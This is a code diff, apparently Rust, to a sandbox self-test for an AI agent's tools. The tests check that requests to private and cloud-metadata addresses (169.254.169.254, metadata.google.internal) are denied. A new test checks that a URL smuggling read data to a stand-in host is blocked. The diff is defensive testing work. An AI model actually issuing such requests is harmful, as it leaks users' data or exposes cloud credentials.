@@ -22,7 +22,7 @@ use runtime::{
     journal::Filter,
     mask::Secrets,
     outside::{Folder, ToolFiles, Whose},
-    policy::Policy,
+    policy::{Policy, Web},
 };
 use serde_json::{Value, json};
 
@@ -158,7 +158,7 @@ impl Room {
             roots: Vec::new(),
             state: folder.join("state"),
             config: folder.join("config"),
-            policy: Policy::default(),
+            policy: Policy { web: Some(Web::Known), ..Policy::default() },
             other_names: kit::files::OtherNames::Refuse,
             allowed: None,
             deadline: DEADLINE,
@@ -184,7 +184,11 @@ impl Room {
         let commands = commands::findings(&self.folder, &place.variables, accepted).await;
         vec![
             tried("G1", "file tools reach nothing outside the roots", self.stays_inside().await),
-            tried("G2", "commands reach only what they were granted", commands.of("G2")),
+            tried(
+                "G2",
+                "commands reach only what they were granted",
+                commands.of("G2").and(runtime::sandbox::pass::self_test().await),
+            ),
             tried(
                 "G3",
                 "control files such as .git/hooks change only after approval",
@@ -210,7 +214,10 @@ impl Room {
             tried(
                 "G9",
                 "requests reach no private address that was not granted (SSRF)",
-                self.asks_before_private_addresses().await.and(requests::are_guarded().await),
+                self.asks_before_private_addresses()
+                    .await
+                    .and(self.asks_before_composed_addresses().await)
+                    .and(requests::are_guarded().await),
             ),
             later(
                 "G10",
@@ -271,6 +278,14 @@ impl Room {
     async fn asks_before_private_addresses(&self) -> Result<(), String> {
         for host in ["127.0.0.1:9", "localhost", "169.254.169.254", "metadata.google.internal"] {
             self.expect("http_request", json!({"url": format!("http://{host}/")}), Kind::Denied).await?;
+        }
+        Ok(())
+    }
+
+    /// A model could put what it read into an address.
+    async fn asks_before_composed_addresses(&self) -> Result<(), String> {
+        for tool in ["http_request", "web_fetch"] {
+            self.expect(tool, json!({"url": "https://doctor.invalid/?what-was-read"}), Kind::Denied).await?;
         }
         Ok(())
     }
